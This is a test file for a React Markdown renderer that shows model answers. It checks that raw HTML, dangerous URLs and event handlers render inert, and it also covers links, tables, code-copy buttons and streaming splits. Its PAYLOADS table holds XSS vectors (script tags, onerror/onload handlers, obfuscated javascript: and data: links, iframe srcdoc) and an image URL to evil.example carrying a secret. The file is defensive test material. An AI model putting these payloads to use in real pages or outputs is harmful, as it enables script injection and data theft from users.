import { act, fireEvent, render, screen } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { afterEach, describe, expect, it, vi } from "vitest";
import { splitBlocks } from "../chat/markdownBlocks";
import { AnswerMarkdown, Markdown, safeUrl } from "./Markdown";

// The payloads set this flag. Inline handlers and scripts run in jsdom's own global, not in the
// test's `window`, but both share the document: the flag lives on it.
const flag = () => document.body.dataset.xss;

const DANGEROUS_TAGS = "script, iframe, frame, object, embed, img, svg, math, form, input, base, meta, link, style";
const URL_ATTRIBUTES = ["href", "src", "srcdoc", "action", "formaction", "xlink:href", "data", "poster", "background"];

/** Everything in the rendered DOM that could run code or load a URL the model chose. */
function unsafeParts(root: HTMLElement): string[] {
  const found: string[] = [];
  root.querySelectorAll(DANGEROUS_TAGS).forEach((el) => found.push(`<${el.tagName.toLowerCase()}>`));
  for (const el of [root, ...root.querySelectorAll("*")]) {
    for (const attr of el.attributes) {
      if (attr.name.toLowerCase().startsWith("on")) found.push(`${attr.name} on <${el.tagName.toLowerCase()}>`);
      if (URL_ATTRIBUTES.includes(attr.name.toLowerCase()) && !/^(https?:|mailto:|#)/i.test(attr.value.trim())) {
        found.push(`${attr.name}=${attr.value}`);
      }
    }
  }
  return found;
}

/** Fires the events inline handlers listen to, on every element (jsdom runs inline handlers). */
function poke(root: HTMLElement) {
  for (const el of root.querySelectorAll("*")) {
    for (const type of ["error", "load", "mouseover", "focus", "animationstart"]) {
      el.dispatchEvent(new Event(type));
    }
  }
}

const PAYLOADS: Record<string, string> = {
  "script element": "Hi <script>document.body.dataset.xss='script'</script> there",
  "img onerror": '<img src=x onerror="document.body.dataset.xss=\'img\'">',
  "html javascript link": '<a href="javascript:document.body.dataset.xss=\'a\'">click me</a>',
  "markdown javascript link": "[x](javascript:document.body.dataset.xss='md')",
  "mixed-case javascript link": "[x](JaVaScRiPt:document.body.dataset.xss='case')",
  "entity-encoded javascript link": "[x](jav&#x61;script:document.body.dataset.xss='entity')",
  "javascript autolink": "<javascript:document.body.dataset.xss='auto'>",
  iframe: '<iframe src="javascript:document.body.dataset.xss=\'iframe\'" srcdoc="<script>parent.document.body.dataset.xss=1</script>"></iframe>',
  "on* attribute": '<div onmouseover="document.body.dataset.xss=\'div\'">hover</div> <b onclick="document.body.dataset.xss=1">b</b>',
  "data: link": "[open](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)",
  "data: image": "![pic](data:image/svg+xml;utf8,<svg onload='document.body.dataset.xss=1'></svg>)",
  "svg onload": "<svg><script>document.body.dataset.xss=1</script></svg><svg onload=\"document.body.dataset.xss='svg'\"/>",
  "markdown image": "![tracker](https://evil.example/pixel.png?secret=1)",
  "reference link": "[ref][1]\n\n[1]: javascript:document.body.dataset.xss='ref'",
};

afterEach(() => {
  delete document.body.dataset.xss;
});

describe("Markdown from the model is inert", () => {
  it("the checks find an unsafe element and its handler does run here (they can fail)", () => {
    const { container } = render(
      <div dangerouslySetInnerHTML={{ __html: '<img src="x" onerror="document.body.dataset.xss=\'control\'">' }} />,
    );
    expect(unsafeParts(container).sort()).toEqual(["<img>", "onerror on <img>", "src=x"]);
    poke(container);
    expect(flag()).toBe("control");
  });

  it.each(Object.entries(PAYLOADS))("%s: nothing executable reaches the DOM", (_name, payload) => {
    const { container } = render(<Markdown text={payload} />);
    expect(unsafeParts(container)).toEqual([]);
    poke(container);
    expect(flag()).toBeUndefined();
  });

  it("shows raw HTML as the text it is instead of markup", () => {
    const { container } = render(<Markdown text={`${PAYLOADS["script element"]!}\n\nUse <details> here.`} />);
    expect([...container.querySelectorAll("p")].map((p) => p.textContent)).toEqual([
      "Hi <script>document.body.dataset.xss='script'</script> there",
      "Use <details> here.",
    ]);
    expect(container.querySelector("script, details")).toBeNull();
  });

  it("a streaming answer is inert too", () => {
    const { container } = render(<AnswerMarkdown text={Object.values(PAYLOADS).join("\n\n")} streaming />);
    expect(unsafeParts(container)).toEqual([]);
    poke(container);
    expect(flag()).toBeUndefined();
  });

  it("safeUrl lets only http(s), mailto and fragments through", () => {
    expect(safeUrl("https://example.com/a?b=1")).toBe("https://example.com/a?b=1");
    expect(safeUrl("mailto:ops@example.com")).toBe("mailto:ops@example.com");
    expect(safeUrl("#user-content-fn-1")).toBe("#user-content-fn-1");
    expect(safeUrl(" javascript:alert(1)")).toBeUndefined();
    expect(safeUrl("java\tscript:alert(1)")).toBeUndefined();
    expect(safeUrl("data:text/html,x")).toBeUndefined();
    expect(safeUrl("vbscript:x")).toBeUndefined();
    expect(safeUrl("/relative/path")).toBeUndefined();
  });
});

describe("Markdown rendering", () => {
  it("renders links that open safely in a new tab, tables, lists and headings below the page's", () => {
    const text = [
      "# Status",
      "See [Grafana](https://grafana.example/d/1) or [mail us](mailto:ops@example.com).",
      "",
      "| alert | severity |",
      "| --- | --- |",
      "| HighLatency | critical |",
      "",
      "- one",
      "- two",
      "",
      "1. first",
      "2. second",
    ].join("\n");
    const { container } = render(<Markdown text={text} />);
    const grafana = screen.getByRole("link", { name: "Grafana" });
    expect(grafana.getAttribute("href")).toBe("https://grafana.example/d/1");
    expect(grafana.getAttribute("target")).toBe("_blank");
    expect(grafana.getAttribute("rel")).toBe("noopener noreferrer");
    expect(screen.getByRole("link", { name: "mail us" }).getAttribute("href")).toBe("mailto:ops@example.com");
    expect(screen.getByRole("columnheader", { name: "severity" })).toBeTruthy();
    expect(screen.getByRole("cell", { name: "HighLatency" })).toBeTruthy();
    expect(container.querySelectorAll("ul > li")).toHaveLength(2);
    expect(container.querySelectorAll("ol > li")).toHaveLength(2);
    expect(screen.getByRole("heading", { name: "Status" }).tagName).toBe("H3");
  });

  it("a link whose URL is dropped keeps its words but is no link", () => {
    render(<Markdown text="[do not click](javascript:alert(1))" />);
    expect(screen.getByText("do not click").tagName).toBe("SPAN");
    expect(screen.queryByRole("link")).toBeNull();
  });

  it("code blocks have a Copy button that copies the code and says Copied for a while", async () => {
    const user = userEvent.setup();
    render(<Markdown text={"Run:\n\n```sh\nkubectl get pods -n team-a\n```\n"} />);
    const button = screen.getByRole("button", { name: "Copy" });
    await user.click(button);
    expect(await navigator.clipboard.readText()).toBe("kubectl get pods -n team-a\n");
    expect(button.textContent).toBe("Copied");
    expect(screen.getByRole("status").textContent).toBe("Code copied to the clipboard");
    await act(() => new Promise((resolve) => setTimeout(resolve, 2100)));
    expect(button.textContent).toBe("Copy");
  });

  it("says so when the clipboard refuses", async () => {
    const writeText = vi.fn().mockRejectedValue(new Error("denied"));
    Object.defineProperty(navigator, "clipboard", { value: { writeText }, configurable: true });
    render(<Markdown text={"```\nsecret\n```"} />);
    fireEvent.click(screen.getByRole("button", { name: "Copy" }));
    expect(await screen.findByRole("button", { name: "Copy failed" })).toBeTruthy();
    expect(writeText).toHaveBeenCalledWith("secret\n");
  });
});

describe("streaming Markdown", () => {
  it("splits at blank lines but never inside a fenced code block", () => {
    expect(splitBlocks("a\nb\n\nc")).toEqual(["a\nb", "c"]);
    expect(splitBlocks("intro\n\n```py\nx = 1\n\ny = 2\n```\n\nafter")).toEqual([
      "intro",
      "```py\nx = 1\n\ny = 2\n```",
      "after",
    ]);
    expect(splitBlocks("~~~~\nx\n~~~\n\nstill code")).toEqual(["~~~~\nx\n~~~\n\nstill code"]);
    expect(splitBlocks("open\n\n```\nno end yet\n\nmore")).toEqual(["open", "```\nno end yet\n\nmore"]);
    expect(splitBlocks("")).toEqual([""]);
    expect(splitBlocks("a\n\n\n")).toEqual(["a"]);
  });

  it("renders the growing answer as the finished answer renders", () => {
    const text = "# Alerts\n\n- `HighLatency` on **api**\n- `DiskFull`\n\n```\ncode\n\nblock\n```\n\nDone.";
    const streaming = render(<AnswerMarkdown text={text} streaming />);
    // Block by block, only the line breaks between the blocks' elements differ.
    const html = (element: HTMLElement) => element.innerHTML.replace(/>\n</g, "><");
    const partial = html(streaming.container);
    streaming.unmount();
    const done = render(<AnswerMarkdown text={text} streaming={false} />);
    expect(partial).toBe(html(done.container));
    expect(done.container.querySelectorAll("li")).toHaveLength(2);
  });
});
